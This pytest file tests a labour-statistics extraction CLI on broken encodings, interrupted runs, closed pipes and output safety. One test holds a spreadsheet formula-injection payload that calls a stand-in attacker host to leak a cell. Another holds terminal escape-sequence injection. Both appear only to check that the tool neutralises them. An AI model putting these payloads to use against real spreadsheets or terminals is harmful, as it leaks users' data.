"""`laborfacts extract` on broken inputs, interrupted runs and closed pipes."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from robust_samples import ARTICLE
from typer.testing import CliRunner

from laborfacts.cli import app
from laborfacts.models import Document, Fact

runner = CliRunner()


def _invoke(*args: str | Path, input: bytes | None = None):  # type: ignore[no-untyped-def]
    return runner.invoke(app, ["extract", *map(str, args)], input=input)


def _no_traceback(text: str) -> None:
    assert "Traceback" not in text and 'File "' not in text


def test_mixed_folder_gives_facts_for_every_readable_article(mixed_folder: Path) -> None:
    """A valid article, a PNG, a cp1252 file, an empty file, a UTF-16 file, an unreadable file."""
    result = _invoke(mixed_folder, mixed_folder / "image.png", "--format", "jsonl")
    assert result.exit_code == 1
    facts = [json.loads(line) for line in result.stdout.splitlines()]
    by_doc = {f["doc"] for f in facts}
    assert {"article", "curly", "utf16"} <= by_doc
    assert "empty" not in by_doc and "unreadable" not in by_doc
    texts = {
        "article": ARTICLE,
        "curly": (mixed_folder / "curly.txt").read_bytes().decode("cp1252"),
        "utf16": (mixed_folder / "utf16.txt").read_text(encoding="utf-16"),
    }
    for f in facts:
        assert texts[f["doc"]][f["start"] : f["end"]] == f["text"]
    lines = result.stderr.splitlines()
    problem_lines = [ln for ln in lines if ln.startswith(("warning:", "skipped:"))]
    assert len(problem_lines) == 3, lines
    assert any("curly.txt" in ln and "cp1252" in ln for ln in problem_lines)
    assert any("unreadable.txt" in ln and "permission denied" in ln for ln in problem_lines)
    assert any("image.png" in ln and "binary file (PNG)" in ln for ln in problem_lines)
    assert lines[-1].startswith("extracted 4 documents") and "2 inputs skipped" in lines[-1]
    _no_traceback(result.output)


def test_a_folder_of_good_articles_exits_0_and_strict_fails_on_warnings(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text(ARTICLE)
    assert _invoke(tmp_path, "-f", "jsonl").exit_code == 0
    (tmp_path / "b.txt").write_bytes(b"\x93Some\x94 40 workers.")
    lenient = _invoke(tmp_path, "-f", "jsonl")
    strict = _invoke(tmp_path, "-f", "jsonl", "--strict")
    assert (lenient.exit_code, strict.exit_code) == (0, 1)
    assert strict.stdout == lenient.stdout  # strict still writes every document
    quiet = _invoke(tmp_path, "-f", "jsonl", "--strict", "-q")
    assert quiet.exit_code == 1 and quiet.stderr == ""


@pytest.mark.parametrize(
    "args",
    [
        ["--output", "{tmp}/x.jsonl", "--out-dir", "{tmp}/out"],
        ["--max-bytes", "lots"],
        ["--max-bytes", "0"],
        ["--output", "{tmp}"],
        ["--format", "xml"],
    ],
    ids=["output-and-out-dir", "size-word", "size-zero", "output-folder", "bad-format"],
)
def test_usage_errors_exit_2(tmp_path: Path, args: list[str]) -> None:
    (tmp_path / "a.txt").write_text("3 workers")
    result = _invoke(tmp_path / "a.txt", *(a.format(tmp=tmp_path) for a in args))
    assert result.exit_code == 2
    _no_traceback(result.output)


def test_no_paths_is_a_usage_error() -> None:
    assert _invoke().exit_code == 2


def test_help_documents_the_exit_codes() -> None:
    result = runner.invoke(app, ["extract", "--help"], terminal_width=200)
    text = " ".join(result.stdout.split())
    for code in ("0 every input", "1 an input", "2 usage error", "130", "141", "143"):
        assert code in text


def test_max_bytes_accepts_units(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("\n\n".join(f"{i} workers were hired." for i in range(50)))
    small = _invoke(tmp_path / "a.txt", "-f", "jsonl", "--max-bytes", "1k")
    whole = _invoke(tmp_path / "a.txt", "-f", "jsonl")
    assert small.exit_code == whole.exit_code == 0
    assert small.stdout == whole.stdout


def test_stdin(tmp_path: Path) -> None:
    result = _invoke("-", "-f", "jsonl", input=ARTICLE.encode("utf-16"))
    assert result.exit_code == 0
    assert {json.loads(line)["doc"] for line in result.stdout.splitlines()} == {"stdin"}


def _fake_documents(docs: list[Document]):  # type: ignore[no-untyped-def]
    def fake(paths, **kw):  # type: ignore[no-untyped-def]
        yield from docs

    return fake


def test_formula_cells_are_neutralised_in_csv_output(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    source = evil + " cut 240,000 jobs"
    fact = Fact(
        doc="evil", type="workforce", metric="headcount", value=-240000.0, direction="decrease",
        unit="count", subject=evil, text=evil, start=0, end=len(evil), sentence=source,
    )  # fmt: skip
    doc = Document(id="evil", sha256="0", chars=len(source), words=4, facts=[fact])
    monkeypatch.setattr("laborfacts.cli.extract.extract_stream", _fake_documents([doc]))
    for target in (None, tmp_path / "facts.csv"):
        extra = ["--output", str(target)] if target else []
        result = _invoke("x.txt", "--format", "csv", *extra)
        assert result.exit_code == 0
        text = target.read_text(encoding="utf-8") if target else result.stdout
        row = next(csv.DictReader(io.StringIO(text, newline="")))
        assert row["subject"] == row["text"] == "'" + evil
        assert row["sentence"] == "'" + source
        # value is a float column: the number stays bare, so a spreadsheet sees a number
        assert row["value"] == "-240000.0" and ",-240000.0," in text


def _interrupting(docs: list[Document], after: int, how: str):  # type: ignore[no-untyped-def]
    def fake(paths, **kw) -> Iterator[Document]:  # type: ignore[no-untyped-def]
        for i, d in enumerate(docs):
            if i == after:
                if how == "keyboard":
                    raise KeyboardInterrupt
                os.kill(os.getpid(), getattr(signal, how))
            yield d

    return fake


def _docs(n: int) -> list[Document]:
    fact = Fact(doc="d", type="count", value=5.0, unit="count", text="5", start=0, end=1)
    return [
        Document(
            id=f"d{i}",
            sha256="0",
            chars=1,
            words=1,
            facts=[fact.model_copy(update={"doc": f"d{i}"})],
        )
        for i in range(n)
    ]


@pytest.mark.parametrize(("how", "code"), [("SIGTERM", 143), ("SIGINT", 130), ("keyboard", 130)])
def test_an_interrupted_run_leaves_earlier_outputs_and_no_temp_files(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, how: str, code: int
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "facts.csv").write_text("previous run\n")
    (tmp_path / "old.jsonl").write_text("previous run\n")
    monkeypatch.setattr("laborfacts.cli.extract.extract_stream", _interrupting(_docs(10), 5, how))
    result = _invoke("x", "--out-dir", out)
    assert result.exit_code == code
    assert sorted(os.listdir(out)) == [f"d{i}.json" for i in range(5)] + ["facts.csv"]
    assert (out / "facts.csv").read_text() == "previous run\n"
    assert result.stderr.strip().splitlines()[-1].startswith("laborfacts: interrupted")
    _no_traceback(result.output)

    monkeypatch.setattr("laborfacts.cli.extract.extract_stream", _interrupting(_docs(10), 5, how))
    result = _invoke("x", "--output", tmp_path / "old.jsonl")
    assert result.exit_code == code
    assert sorted(os.listdir(tmp_path)) == ["old.jsonl", "out"]
    assert (tmp_path / "old.jsonl").read_text() == "previous run\n"
    assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL  # handlers restored


def test_an_unwritable_output_is_one_line_and_exit_1(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("3 workers")
    (tmp_path / "file").write_text("")
    result = _invoke(tmp_path / "a.txt", "--output", tmp_path / "file" / "x.jsonl")
    assert result.exit_code == 1
    assert result.stderr.startswith("laborfacts: cannot write")
    _no_traceback(result.output)


# --- real processes: signals and pipes ------------------------------------------


def _python_m(*args: str | Path) -> list[str]:
    return [sys.executable, "-m", "laborfacts", "extract", *map(str, args)]


def test_sigterm_midway_leaves_no_partial_file(tmp_path: Path) -> None:
    big = tmp_path / "big"
    big.mkdir()
    for i in range(3000):
        (big / f"a{i:04}.txt").write_text(ARTICLE.replace("5,000", f"{i},000"))
    out = tmp_path / "out"
    out.mkdir()
    (out / "facts.csv").write_text("previous run\n")
    proc = subprocess.Popen(
        _python_m(big, "--out-dir", out), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
    )
    deadline = time.monotonic() + 60
    while not any(n.endswith(".json") for n in os.listdir(out)):
        assert proc.poll() is None, proc.stderr.read() if proc.stderr else ""
        assert time.monotonic() < deadline, "no output after 60 s"
        time.sleep(0.02)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 143, err
    names = os.listdir(out)
    assert not [n for n in names if n.startswith(".") or n.endswith(".tmp")], names
    assert (out / "facts.csv").read_text() == "previous run\n"
    written = [n for n in names if n.endswith(".json")]
    assert 0 < len(written) < 3000
    for name in written:
        json.loads((out / name).read_text(encoding="utf-8"))  # each one complete
    lines = err.decode().strip().splitlines()
    assert lines[-1] == "laborfacts: interrupted (SIGTERM); files being written were discarded"
    _no_traceback(err.decode())


def test_a_closed_pipe_ends_quietly(tmp_path: Path) -> None:
    for i in range(200):
        (tmp_path / f"a{i:03}.txt").write_text(ARTICLE)
    with subprocess.Popen(
        _python_m(tmp_path, "--format", "jsonl"), stdout=subprocess.PIPE, stderr=subprocess.PIPE
    ) as proc:
        assert proc.stdout is not None and proc.stderr is not None
        first = proc.stdout.readline()
        proc.stdout.close()
        err = proc.stderr.read().decode()
        proc.wait(timeout=60)
    json.loads(first)
    assert proc.returncode == 141, err
    assert err == "", err


def test_table_output_is_safe_for_a_terminal(tmp_path: Path) -> None:
    name = tmp_path / "[b]odd.txt"
    name.write_text(
        "[/bold] Title [link=http://x.example]\n\n"
        "Pay: \x1b]0;pwned\x07\x1b[2J 40 workers at [red]Acme[/] earn $23 an hour.\n"
    )
    result = _invoke(name, "--format", "table")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "[/bold] Title" in result.stdout
    _no_traceback(result.output)
